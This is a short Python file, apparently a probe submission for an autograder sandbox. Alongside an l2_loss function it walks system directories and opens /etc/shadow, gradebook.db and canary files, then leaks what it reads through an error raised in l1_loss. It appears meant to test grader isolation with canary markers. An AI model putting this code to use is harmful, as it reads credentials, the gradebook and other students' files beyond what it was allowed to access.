# Tries: reads every file that could be the instructor's: gradebook, home, keys, other submissions.
# Expects: l2_loss passed, l1_loss error
import os

def l2_loss(y_hat, y):
    return (y_hat - y) ** 2 / 2
# trick:
read = []
for start in ("/root", "/home", "/work", "/tmp", "/var", "/srv", "/mnt", "/run", "/student", "/etc"):
    for folder, folders, files in os.walk(start):
        if folder.count("/") > 4 or "fashion" in folder or "lib" in folders:
            folders.clear()
        for name in files:
            try:
                with open(os.path.join(folder, name), "rb") as file:
                    if b"ZOO-CANARY-" in (start := file.read(4096)) and b"# Tries" not in start:
                        read.append(start[:200])
            except OSError:
                pass
for name in ("gradebook.db", "canary.txt", "../canary.txt", "/etc/shadow", "/proc/1/cwd/canary.txt"):
    if os.path.exists(name):
        read.append(open(name, "rb").read(200))
# end of trick


def l1_loss(y_hat, y):
    # trick:
    raise RuntimeError(f"read {read}")
    # end of trick
    return (y_hat - y).abs()
